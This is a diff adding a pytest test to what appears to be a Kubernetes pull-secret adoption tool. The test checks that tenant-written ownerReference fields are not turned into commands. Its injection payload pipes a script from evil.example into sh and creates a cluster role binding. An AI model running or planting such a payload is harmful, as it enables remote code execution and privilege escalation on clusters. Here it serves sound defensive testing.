@@ -177,6 +177,29 @@ def test_a_secret_that_its_maker_takes_along_is_refused(cluster: ControlPlane, w
     stands(cluster, name, token)
 
 
+@pytest.mark.parametrize("field", ["kind", "name"])
+def test_what_a_tenant_wrote_is_no_command(cluster: ControlPlane, webhook: Webhook, owner: str, field: str) -> None:
+    """The API server takes any text for the kind and the name of what owns an object."""
+    evil, name = (
+        "configmap; curl -s https://evil.example/x | sh # a\nkubectl create clusterrolebinding x",
+        f"{owner}-ns",
+    )
+    deployed.give(cluster.api, owner, planted.token())
+    owned(cluster, owner, name, planted.token())
+    reference = {"apiVersion": "v1", "kind": "ConfigMap", "name": "maker", "uid": "u"} | {field: evil}
+    metadata = {"ownerReferences": [reference], "finalizers": ["example.com/stay"]}  # its owner is not there
+    cluster.api.patch("Secret", SECRET, {"metadata": metadata}, name)
+    try:
+        said = pullsecret(cluster, "adopt", "-n", name, "--dry-run")
+        listed = json.loads(pullsecret(cluster, "adopt", "-n", name, "--dry-run", "-o", "json").out)
+    finally:
+        cluster.api.patch("Secret", SECRET, {"metadata": {"finalizers": None}}, name)
+    assert said.code == 1
+    assert [line.split(":")[0] for line in said.out.splitlines()[:-1]] in ([name], [name, "  to do"])
+    assert "kubectl -n" not in said.out
+    assert len(listed) == 1
+
+
 def test_a_namespace_that_is_not_there(cluster: ControlPlane) -> None:
     done = pullsecret(cluster, "adopt", "-n", "nowhere")
     assert (done.code, done.out) == (1, "")
